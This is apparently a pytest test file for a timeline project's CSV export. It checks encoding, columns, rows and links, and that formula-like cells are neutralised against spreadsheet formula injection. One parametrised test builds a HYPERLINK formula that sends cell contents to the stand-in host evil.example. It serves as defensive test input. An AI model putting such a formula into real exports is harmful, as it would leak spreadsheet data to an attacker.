"""timeline.csv: read back with the `csv` module; UTF-8, one row per event, formula-safe."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from conftest import entry
from exportcase import ENTRIES, HOSTILE, HOSTILE_PLACE, OPTIONS, exports, quoted

from timeline.exports.csvfile import COLUMNS, neutralise


def rows(raw: bytes) -> list[dict[str, str]]:
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_one_row_per_event_in_timeline_order_with_the_documented_columns():
    raw = exports()["timeline.csv"]
    assert raw.decode("utf-8-sig").split("\r\n")[0] == ",".join(COLUMNS)
    table = rows(raw)
    assert [r["title"] for r in table] == [
        "Year only",
        "Treaty signed",
        "Month only",
        HOSTILE,
        "Timed",
        "Timed span",
        "Circa day",
    ]
    hostile = table[3]
    assert hostile == {
        "date": "2024-10-31",
        "end": "2024-11-02",
        "precision": "day",
        "circa": "",
        "title": HOSTILE,
        "actors": "North Korea; Russia",
        "status": "confirmed",
        "location": HOSTILE_PLACE,
        "source": "CNN & Co",
        "source_url": "https://edition.cnn.com/x?a=1&b=2",
        "url": "https://example.org/test/events/2024/2024-10-31-hostile/",
    }
    assert (table[0]["precision"], table[0]["circa"]) == ("year", "yes")
    assert table[4]["date"] == "2024-10-30T22:15-04:00"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    entries = {
        "events/2024/2024-10-31-formula.md": entry(
            title=quoted(formula), extra=f"location: {quoted(start + '1+1')}"
        )
    }
    (row,) = rows(exports(entries=entries)["timeline.csv"])
    assert row["title"] == "'" + formula
    assert row["location"] == "'" + start + "1+1"


def test_tab_and_carriage_return_starts_are_neutralised_too_and_plain_text_is_not():
    # front matter strips values, so these cannot come from an entry today
    assert neutralise("\t=1+1") == "'\t=1+1"
    assert neutralise("\r=1+1") == "'\r=1+1"
    assert neutralise("Kim said = 1") == "Kim said = 1"
    assert neutralise("") == ""


def test_hostile_title_round_trips_with_quotes_and_non_latin_text():
    (row,) = [r for r in rows(exports()["timeline.csv"]) if r["date"] == "2024-10-31"]
    assert row["title"] == HOSTILE


def test_page_links_are_relative_without_site_url():
    table = rows(exports(replace(OPTIONS, site_url=None), ENTRIES)["timeline.csv"])
    assert table[0]["url"] == "events/2024/2024-year/"
